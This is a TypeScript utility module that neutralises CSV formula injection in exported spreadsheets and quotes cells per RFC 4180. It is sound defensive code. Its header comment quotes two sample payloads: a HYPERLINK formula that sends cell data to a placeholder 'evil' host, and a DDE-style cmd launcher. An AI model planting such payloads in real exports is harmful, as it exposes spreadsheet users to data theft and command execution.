/**
 * CSV output safety: every CSV (or TSV) the product writes builds its cells with `toCsvCell` / `toCsvLine`, never by
 * joining strings itself.
 *
 * Why: imports store text as given (a name is personal data, sealed at rest and printed on letters as written), so a
 * cell such as `=HYPERLINK("http://evil/?"&A1,"x")` or `@SUM(1+1)*cmd|' /C calc'!A0` is kept verbatim. It is harmless
 * until an export opens in Excel, LibreOffice or Google Sheets, which evaluate a cell starting with a formula
 * character (CWE-1236, "CSV injection"). So neutralisation happens on output, every time, following the OWASP CSV
 * Injection guidance: a cell starting with `=`, `+`, `-`, `@`, tab or carriage return (and NUL, per ASVS 5.0 1.2.10)
 * gets a leading single quote, which spreadsheets read as "this is text" and do not display.
 *
 * Pure and dependency-free, so any layer may use it.
 */

/**
 * First characters that make a spreadsheet read a cell as a formula. The full-width forms (＝ ＋ － ＠) are included as
 * a precaution for Japanese input methods: if a spreadsheet does not treat them as formulas, the cost is one hidden
 * apostrophe.
 */
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r', '\u0000', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

/**
 * `value` with a single quote in front when its first character could start a spreadsheet formula; otherwise `value`
 * unchanged. Idempotent: an already neutralised value starts with `'` and is left as it is.
 */
export function neutraliseSpreadsheetFormula(value: string): string {
  return value.length > 0 && FORMULA_START.has(value[0]!) ? `'${value}` : value;
}

/** What a cell may hold. Numbers are written as numbers (a finite number is never a formula); null/undefined empty. */
export type CsvValue = string | number | boolean | null | undefined;

/**
 * One CSV cell: text neutralised against formulas, then quoted per RFC 4180 when it holds a comma, a double quote, a
 * line break, or leading/trailing space (so spreadsheets keep it); embedded quotes are doubled.
 */
export function toCsvCell(value: CsvValue, delimiter = ','): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new RangeError('a CSV number cell must be finite');
    return String(value);
  }
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = neutraliseSpreadsheetFormula(value);
  const needsQuotes =
    text.includes(delimiter) || text.includes('"') || text.includes('\n') || text.includes('\r') || text !== text.trim();
  return needsQuotes ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record with its CRLF terminator (RFC 4180, and what Excel writes). */
export function toCsvLine(values: readonly CsvValue[], delimiter = ','): string {
  return `${values.map((v) => toCsvCell(v, delimiter)).join(delimiter)}\r\n`;
}
